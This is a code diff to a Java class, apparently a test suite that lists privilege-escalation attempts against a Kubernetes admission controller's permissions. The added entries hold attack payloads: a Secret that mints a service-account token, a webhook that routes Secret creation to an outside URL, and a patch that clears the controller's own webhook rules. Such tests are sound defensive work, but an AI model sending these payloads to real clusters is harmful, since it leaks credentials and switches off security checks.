@@ -11,6 +11,19 @@ import java.util.List;
 public final class Escalations {
   private static final String JSON = "application/json";
   private static final String MERGE = "application/merge-patch+json";
+  private static final String STRATEGIC = "application/strategic-merge-patch+json";
+  private static final String TOKEN =
+      """
+      {"metadata": {"name": "stolen", "annotations":
+        {"kubernetes.io/service-account.name": "default"}}, "type": "kubernetes.io/service-account-token"}
+      """;
+  private static final String WEBHOOK =
+      """
+      {"webhooks": [{"name": "stolen.example.com", "sideEffects": "None", "failurePolicy": "Ignore",
+        "admissionReviewVersions": ["v1"], "clientConfig": {"url": "https://example.com/"},
+        "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"],
+          "resources": ["secrets"]}]}]}
+      """;
   private static final String WEBHOOKS = "/apis/admissionregistration.k8s.io/v1";
   private static final String ACCESS =
       "{\"spec\": {\"resourceAttributes\": {\"verb\": \"%s\", \"group\": \"%s\", \"resource\": \"%s\"}}}";
@@ -88,7 +101,7 @@ public final class Escalations {
             "change a tenant's pod's image",
             "PATCH",
             "/api/v1/namespaces/tenant/pods/victim",
-            "application/strategic-merge-patch+json",
+            STRATEGIC,
             image),
         new Try(
             "label a tenant's pod",
@@ -110,12 +123,19 @@ public final class Escalations {
             "/api/v1/namespaces/tenant/resourcequotas/gpus",
             MERGE,
             "{\"spec\": {\"hard\": {\"pods\": \"1000\"}}}"),
+        new Try("make a Secret that becomes a token", "POST", own + "/secrets", JSON, TOKEN),
         new Try(
-            "change its own webhook's address",
+            "add a webhook for Secrets to its own",
             "PATCH",
             WEBHOOKS + "/validatingwebhookconfigurations/plimsoll-admission",
-            MERGE,
-            "{\"metadata\": {\"annotations\": {\"a\": \"b\"}}}"),
+            STRATEGIC,
+            WEBHOOK),
+        new Try(
+            "change its own webhook's rules",
+            "PATCH",
+            WEBHOOKS + "/validatingwebhookconfigurations/plimsoll-admission",
+            STRATEGIC,
+            "{\"webhooks\": [{\"name\": \"quota.plimsoll.dev\", \"rules\": null}]}"),
         new Try(
             "change another webhook",
             "PATCH",
